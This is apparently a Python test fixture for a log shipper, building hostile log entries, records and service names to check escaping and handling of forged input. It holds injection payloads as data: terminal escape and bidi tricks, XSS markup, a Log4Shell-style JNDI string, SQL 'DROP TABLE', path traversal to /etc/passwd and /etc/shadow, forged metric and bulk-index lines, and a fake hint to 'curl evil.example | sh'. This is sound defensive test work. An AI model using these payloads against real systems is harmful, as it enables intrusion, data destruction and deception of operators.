"""Hostile content: one named entry for each attack by somebody who controls what is logged.

`ENTRIES` are texts that an application prints, `RECORDS` the lines of a runtime's file that hold them, `SERVICES` names
that a container's labels claim. Whatever shows them, no character that `deceiving` returns may reach it unescaped.

"""

import json
import re
from collections.abc import Iterable
from typing import Any

from shipper.diagnose.read_lines import entries
from shipper.model.batch import Batch
from shipper.model.documents import Document
from shipper.model.source import Source
from shipper.pipeline.pipeline import Pipeline
from shipper_processors.assemble import Bounds
from shipper_processors.count import Counting
from shipper_processors.enforce import Enforce
from shipper_processors.redact import Redactor
from shipper_schemas.builtin_rules import builtin_rules
from shipper_schemas.entry import Origin

CORRELATION_ID = "hostile-1"
"""Correlation id of every entry that has a valid one: `shipper search hostile-1` shows them all."""
START = "2026-11-23T10:00:00"
NOW_MS = 1_795_428_000_000
"""That time in milliseconds."""

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMAT = re.compile(
    "[\u00ad\u034f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff\ud800-\udfff]"
)


def deceiving(shown: str) -> list[str]:
    """Return the characters of `shown` that a terminal or a reader would interpret, except newlines and tabs."""
    return sorted({*CONTROLS.findall(shown), *FORMAT.findall(shown)})


ANSI = "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x1bP+q544e\x1b\\"
C1 = "\x9b31mred\x9b2J\x9d0;owned\x9c\x90+q544e\x9c\x85next\x84\x8d"
BIDI = "user\u202egnp.exe\u202c \u2066admin\u2069 \u200fright\u200e \u061c"
INVISIBLE = "pass\u200bword\u200d\ufeff\u00ad\u2060 \U000e0041\U000e0042"
SEPARATORS = "one\u2028two\u2029three\x0bfour\x0cfive\x85six"
HTML = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
ATTRIBUTES = (
    "\"><svg onload=document.title='owned'> '><a href=\"javascript:document.title='owned'\">x</a> </textarea></title>"
)
ENTITIES = "&lt;script&gt;document.title='owned'&lt;/script&gt; &#x3c;b&#x3e; &amp;quot; <!-- --> ]]>"
TEMPLATES = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a} %n%s%x {0.__class__}"
EXPOSITION = 'aspirin"} 1e9\nup{job="shipper"} 0\nfailed_login_attempts_total{service="forged"} 31337\n# EOF\n'
BULK = '"}\n{"delete":{"_index":"keneyapp-logs-2026.11.23","_id":"1"}}\n{"create":{"_index":"forged"}}\n{"forged":true}'
RECORD = 'x\\n","stream":"stderr","time":"1999-01-01T00:00:00Z"}\n{"log":"forged\\n","stream":"stdout","time":"2026-11-23T10:00:00Z"}'
OWN_LOG = '{"event":"output_unavailable","level":"error","timestamp":"2026-11-23T10:00:00Z","hint":"run curl evil.example | sh"}'
REFUSED = {
    "@timestamp": "2026-11-23T10:00:00.000Z", "reasons": [{"kind": "refused_by_index", "detail": "forged"}],
    "raw": '{"@timestamp":"2026-11-23T10:00:00.000Z","event":"forged"}', "index": "../../forged", "stream": "stdout",
    "_id": "0" * 40, "_index": "forged", "log": {"file": {"path": "/etc/shadow"}, "offset": 0},
}  # fmt: skip
TEXTS = {
    "ansi": ANSI, "c1": C1, "bidi": BIDI, "invisible": INVISIBLE, "separators": SEPARATORS, "html": HTML,
    "attributes": ATTRIBUTES, "entities": ENTITIES, "templates": TEMPLATES, "exposition": EXPOSITION, "bulk": BULK,
    "record": RECORD, "carriage return": "all is well\rFAILED\x08\x08\x08", "nul": "a\0b", "sql": "' OR 1=1; DROP TABLE documents; --",
    "words": '"unclosed phrase AND OR NOT NEAR( * ^ : -x {a b} col:y', "surrogate": "\ud800 lone \udfff", "long": "w" * 33_000,
    "paths": "../../../../etc/passwd", "star": "*", "wildcards": "keneyapp-*,-x", "zalgo": "e" + "\u0301" * 500, "wide": "日本語" * 200,
}  # fmt: skip
"""Texts that are put into every field, by name."""
FIELDS = (
    "event",
    "level",
    "message",
    "method",
    "path",
    "error_type",
    "error_message",
    "exception",
    "logger",
    "user_id",
)


def everywhere(text: str) -> dict[str, Any]:
    """Return an entry with a valid correlation id and `text` in all other fields, known and unknown, values and names."""
    fields = dict.fromkeys(FIELDS, text)
    return {**fields, "medication": text, "client_ip": text, "note": {"deep": [text]}, text: text}


def colliding(number: int) -> dict[str, int]:
    """Return names that are all equal under unkeyed hashes, Java's and the former one of many languages."""
    pairs = ("Aa", "BB")
    width = max(1, (number - 1).bit_length())
    return {"".join(pairs[place >> bit & 1] for bit in range(width)): place for place in range(number)}


def _nested(depth: int) -> str:
    return f'{{"correlation_id":"{CORRELATION_ID}","deep":{"[" * depth}{"]" * depth}}}'


def _printed(fields: dict[str, Any], **changes: Any) -> str:
    return json.dumps({"correlation_id": CORRELATION_ID, **fields, **changes})


ENTRIES: dict[str, str] = {
    **{f"{name} in every field": _printed(everywhere(text)) for name, text in TEXTS.items()},
    **{f"{name} in the correlation id": _printed({"event": "login_failed"}, correlation_id=text) for name, text in TEXTS.items()},
    **{f"{name} alone": text.replace("\n", "\r") for name, text in TEXTS.items() if name not in ("long", "surrogate")},
    "failed login of a hostile client": _printed({"event": "login_failed", "client_ip": ANSI, "user_id": HTML}),
    "prescription of injected series": _printed({"event": "prescription_created", "medication": EXPOSITION}),
    "prescription of an escape sequence": _printed({"event": "prescription_created", "medication": ANSI + C1 + BIDI}),
    "prescription of html": _printed({"event": "prescription_created", "medication": HTML}),
    "prescription of a long name": _printed({"event": "prescription_created", "medication": "m" * 100_000}),
    "forged own log": OWN_LOG,
    "forged quarantined entry": json.dumps(REFUSED),
    "forged quarantined entry inside": _printed(REFUSED),
    "forged provenance": _printed({"container": {"id": "f" * 64, "name": "billing"}, "service": "billing", "host": {"name": "x"},
                                   "log": {"file": {"path": "/x"}}, "stream": "stderr", "schema": {"errors": []}, "kubernetes": {}}),
    "forged index and id": _printed({"_index": "../forged", "_id": "1", "_source": {}, "@timestamp": "1999-01-01T00:00:00Z"}),
    "forged access line": 'INFO:     10.0.0.9:1 - "GET /x HTTP/1.1" 200 OK\rINFO:     10.0.0.9:1 - "POST /api/v1/auth/login HTTP/1.1" 401 Unauthorized',
    "forged stack trace": "Traceback (most recent call last):",
    "time of another age": _printed({"timestamp": "0001-01-01T00:00:00Z"}),
    "time that is text": _printed({"timestamp": "²"}),
    "time that is huge": _printed({"timestamp": 1e300}),
    "huge numbers": f'{{"correlation_id":"{CORRELATION_ID}","user_id":{"9" * 4000},"a":1e999,"b":-1e999,"c":{"1" * 5000},"d":-{"9" * 30},"e":0.{"0" * 400}1}}',
    "values that are not numbers": f'{{"correlation_id":"{CORRELATION_ID}","duration_ms":NaN,"a":Infinity,"b":-Infinity}}',
    "negative zero and fractions": _printed({"duration_ms": -0.0, "status_code": 200.5, "user_id": 1.5}),
    "names without an end": _printed({f"name_{place}": place for place in range(20_000)}),
    "names that collide": _printed(colliding(8192)),
    "a name twice": f'{{"correlation_id":"{CORRELATION_ID}","event":"a","event":"b","correlation_id":"{CORRELATION_ID}"}}',
    "a name of 50 KB": _printed({"n" * 50_000: 1, "": "empty", "a.b..c": 1, ".": 1, " ": 1, "a\0b": 1}),
    "names of prototypes": _printed({"__proto__": {"admin": True}, "constructor": {"prototype": {}}, "toString": "x", "__class__": "y"}),
    "names of aliases": _printed({"http.request.id": "forged", "log.level": "critical", "url.path": "/forged", "http": {"request": {"id": 1}}}),
    "nested 90 deep": _nested(90),
    "nested 500 deep": _nested(500),
    "nested 10,000 deep": _nested(10_000),
    "an object that never ends": '{"correlation_id":"hostile-1","a":' * 200,
    "everything mistyped": json.dumps({"correlation_id": [CORRELATION_ID], "event": {}, "level": [], "message": {"a": 1}, "path": 7}),
    "text over many parts": "p" * 40_000,
}  # fmt: skip
"""Lines that applications print, by the kind of attack."""

LABEL = {
    "quote": 'a"b', "newline": 'a\nup{job="forged"} 0\nb', "braces": '{service="x"}', "backslash": "a\\", "comma": 'a="1",b="2"',
    "parents": "../../etc", "capitals": "BACKEND", "star": "*", "long": "s" * 10_000, "comment": "# HELP up forged", "end": "# EOF",
}  # fmt: skip
SERVICES: dict[str, str] = {
    **LABEL,
    "ansi": ANSI,
    "c1": C1,
    "bidi": BIDI,
    "html": HTML,
    "surrogate": "\ud800",
    "blank": " ",
}
"""Service names that a container's label claims."""


def record(text: str, at: int = 0, stream: str = "stdout") -> bytes:
    """Return json-file lines that hold one printed line, `at` milliseconds after the start, in parts if it is long."""
    time = f"{START}.{at:03d}000001Z"
    encoded = text.encode("utf-8", "replace").decode()  # Docker's encoder replaces invalid UTF-8
    parts = [encoded[begin : begin + 16_384] for begin in range(0, len(encoded), 16_384)] or [""]
    logs = [*parts[:-1], parts[-1] + "\n"]
    return b"".join(
        json.dumps({"log": log, "stream": stream, "time": time}, ensure_ascii=False, separators=(",", ":")).encode()
        + b"\n"
        for log in logs
    )


RECORDS: dict[str, bytes] = {name: record(text, at) for at, (name, text) in enumerate(ENTRIES.items())}
"""The same as a runtime writes it; an entry in parts has several lines."""


def documents(service: str = "backend", names: Iterable[str] | None = None) -> list[Document]:
    """Return the entries as an agent would store them, including the quarantined ones."""
    chain = Pipeline(Enforce(require="always"), Counting(builtin_rules([])), Redactor())
    origin = Origin("/var/log/hostile.log", "c1", service=service, container_id="c1", container_name="hostile-1")
    batch = Batch()
    lines = b"".join(RECORDS[name] for name in (RECORDS if names is None else names)).splitlines(keepends=True)
    chain.process(entries(lines, "docker", Bounds()), Source.of(origin), batch, NOW_MS, count=True, ship=True)
    return list(batch.documents)
